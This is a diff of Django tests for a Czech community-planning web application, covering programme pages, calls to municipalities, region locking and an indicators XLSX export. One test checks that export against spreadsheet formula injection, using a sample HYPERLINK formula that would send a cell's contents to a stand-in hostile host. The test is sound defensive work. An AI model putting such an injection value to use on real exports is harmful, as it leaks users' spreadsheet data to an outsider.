@@ -15,7 +15,7 @@ from kpss.accounts.models import SiteRole
 from kpss.meetings.models import AgendaItem, Attendance, Meeting
 from kpss.processes.models import Milestone, PlanningProcess, Stage
 from kpss.processes.services import create_process
-from kpss.processes.tests.factories import PersonFactory, UserFactory
+from kpss.processes.tests.factories import GroupFactory, PersonFactory, UserFactory, member_user
 from kpss.regional import services
 from kpss.regional.models import Addressee, Call, Indicator, Programme
 from kpss.territories.tests.factories import OrpFactory
@@ -115,9 +115,7 @@ def test_the_public_sees_the_tally_but_not_who_answered(client, vysocina):
     assert client.get(url("call", vysocina.programme.pk, call.pk)).status_code == 302
 
 
-def test_the_programme_page_shows_participating_processes_seminars_and_links_closed_ones_only_to_insiders(
-    client, vysocina
-):
+def test_the_programme_page_shows_participating_processes_seminars_and_closed_ones_only_to_insiders(client, vysocina):
     programme = vysocina.programme
     services.link_process(programme, orp_process(vysocina.orps["Jihlava"]))
     start = timezone.now() - datetime.timedelta(days=3)
@@ -129,13 +127,53 @@ def test_the_programme_page_shows_participating_processes_seminars_and_links_clo
     closed = Meeting.objects.create(
         process=programme.process, kind="workshop", title="Interní workshop", starts_at=start, is_open=False
     )
-    page = client.get(url("programme", programme.pk)).content.decode()
+    closed_of_a_group = Meeting.objects.create(
+        process=programme.process,
+        group=GroupFactory(process=programme.process, kind="working", name="Lektoři"),
+        kind="seminar",
+        title="Porada lektorů",
+        starts_at=start,
+        is_open=False,
+    )
+    response = client.get(url("programme", programme.pk))
+    page = response.content.decode()
     assert "KPSS Jihlava" in page
     assert "Co je komunitní plánování" in page
     assert open_seminar.get_absolute_url() in page
-    assert "Interní workshop" in page and closed.get_absolute_url() not in page
-    client.force_login(vysocina.colleague)
-    assert closed.get_absolute_url() in client.get(url("programme", programme.pk)).content.decode()
+    assert "Interní workshop" not in page and closed.get_absolute_url() not in page
+    assert response.context["trained"] == 1  # counted over every seminar, names of none
+    # A member of another group of the programme sees the closed meetings of the whole process, not of that group.
+    participant = member_user(GroupFactory(process=programme.process, kind="working"))
+    client.force_login(participant)
+    seminars = client.get(url("programme", programme.pk)).context["seminars"].object_list
+    assert {meeting.title for meeting in seminars} == {"1. seminář", "Interní workshop"}
+    client.force_login(vysocina.colleague)  # an officer of the region oversees the programme
+    page = client.get(url("programme", programme.pk)).content.decode()
+    assert closed.get_absolute_url() in page and closed_of_a_group.get_absolute_url() in page
+
+
+def test_the_region_is_locked_once_the_programme_has_a_call_or_a_process(officer_client, vysocina):
+    programme = vysocina.programme
+    elsewhere = OrpFactory().region
+    SiteRole.objects.create(user=vysocina.officer, kind=SiteRole.Kind.REGIONAL_OFFICER, region=elsewhere)
+    data = {"name": "Program", "starts_on": "2025-01-01", "ends_on": "2026-10-31", "status": "running"}
+    jihlava = orp_process(vysocina.orps["Jihlava"])
+    services.link_process(programme, jihlava)
+    response = officer_client.post(url("edit", programme.pk), {**data, "region": elsewhere.pk})
+    assert response.status_code == 200 and response.context["form"].errors["region"]
+    services.unlink_process(programme, jihlava)
+    new_call(programme)
+    response = officer_client.post(url("edit", programme.pk), {**data, "region": elsewhere.pk})
+    assert response.status_code == 200 and response.context["form"].errors["region"]
+    assert response.context["form"]["name"].value() == "Program"
+    programme.process.refresh_from_db()
+    assert programme.process.region == vysocina.region
+    # Other data may still change, the region kept.
+    assert officer_client.post(url("edit", programme.pk), {**data, "region": vysocina.region.pk}).status_code == 302
+    programme.calls.all().delete()
+    assert officer_client.post(url("edit", programme.pk), {**data, "region": elsewhere.pk}).status_code == 302
+    programme.process.refresh_from_db()
+    assert programme.process.region == elsewhere
 
 
 def test_editing_the_programme_changes_its_process(officer_client, vysocina):
@@ -215,6 +253,14 @@ def test_the_indicators_as_a_workbook(client, vysocina):
         ("Aktivní lidé", 200, 230, 1),
     ]
     assert sheet["A1"].value == str(programme)
+
+
+def test_an_indicator_name_never_becomes_a_formula_in_the_workbook(client, vysocina):
+    name = '=HYPERLINK("https://zle.example/?"&A1,"Klikněte")'
+    Indicator.objects.create(programme=vysocina.programme, name=name, measure="plans", target=8)
+    response = client.get(url("indicators_xlsx", vysocina.programme.pk))
+    cell = openpyxl.load_workbook(io.BytesIO(response.content)).active["A3"]
+    assert (cell.value, cell.data_type) == (name, "s")
 
 
 # Participating processes
@@ -317,6 +363,55 @@ def test_the_call_page_lists_addressees_with_their_answers(officer_client, vysoc
     assert len(response.context["on_paper"]) == 26
     telc = next(a for a in response.context["addressees"] if a.orp == vysocina.orps["Telč"])
     assert url("start_process", programme.pk, call.pk, telc.pk) in response.content.decode()
+
+
+def test_without_any_address_the_call_page_asks_for_them(officer_client, vysocina):
+    programme = vysocina.programme
+    call = new_call(programme)
+    page = officer_client.get(url("call", programme.pk, call.pk)).content.decode()
+    assert 'id="no-emails"' in page and url("call_emails", programme.pk, call.pk) in page
+    Addressee.objects.filter(call=call, orp=vysocina.orps["Telč"]).update(
+        email="obec@telc.example", sent_at=timezone.now()
+    )
+    page = officer_client.get(url("call", programme.pk, call.pk)).content.decode()
+    assert 'id="no-emails"' not in page
+
+
+def test_a_municipality_with_processes_gets_one_linked_not_a_new_one_started(officer_client, vysocina):
+    programme = vysocina.programme
+    pacov = vysocina.orps["Pacov"]
+    older, newer = orp_process(pacov, "KPSS Pacov 2018"), orp_process(pacov, "KPSS Pacov 2025")
+    call = new_call(programme)
+    addressee = call.addressees.get(orp=pacov)
+    services.answer_through_link(addressee, answer="yes", representative="Lukáš Vlček")
+    page = officer_client.get(url("call", programme.pk, call.pk)).content.decode()
+    link = url("addressee_link", programme.pk, call.pk, addressee.pk)
+    assert link in page and url("start_process", programme.pk, call.pk, addressee.pk) not in page
+    officer_client.post(url("start_process", programme.pk, call.pk, addressee.pk))
+    assert PlanningProcess.objects.filter(orp=pacov).count() == 2
+
+    form = officer_client.get(link).context["form"]
+    assert set(form.fields["process"].queryset) == {older, newer}
+    foreign = orp_process(vysocina.orps["Telč"])
+    response = officer_client.post(link, {"process": foreign.pk})
+    assert response.status_code == 200 and response.context["form"].errors["process"]
+    assert officer_client.post(link, {"process": "x"}).status_code == 200
+    assert officer_client.post(link, {"process": newer.pk}).url == call.get_absolute_url()
+    addressee.refresh_from_db()
+    assert addressee.process == newer
+    assert list(programme.participating_processes.all()) == [newer]
+    row = officer_client.get(url("call", programme.pk, call.pk)).context["addressees"]
+    assert next(a for a in row if a.pk == addressee.pk).process == newer
+
+    other_call = new_call(programme)
+    assert officer_client.get(url("addressee_link", programme.pk, other_call.pk, addressee.pk)).status_code == 404
+    waiting = other_call.addressees.get(orp=pacov)
+    response = officer_client.post(
+        url("addressee_link", programme.pk, other_call.pk, waiting.pk), {"process": older.pk}
+    )
+    assert response.status_code == 302
+    waiting.refresh_from_db()
+    assert waiting.process is None  # only a municipality that joined
 
 
 # Answers
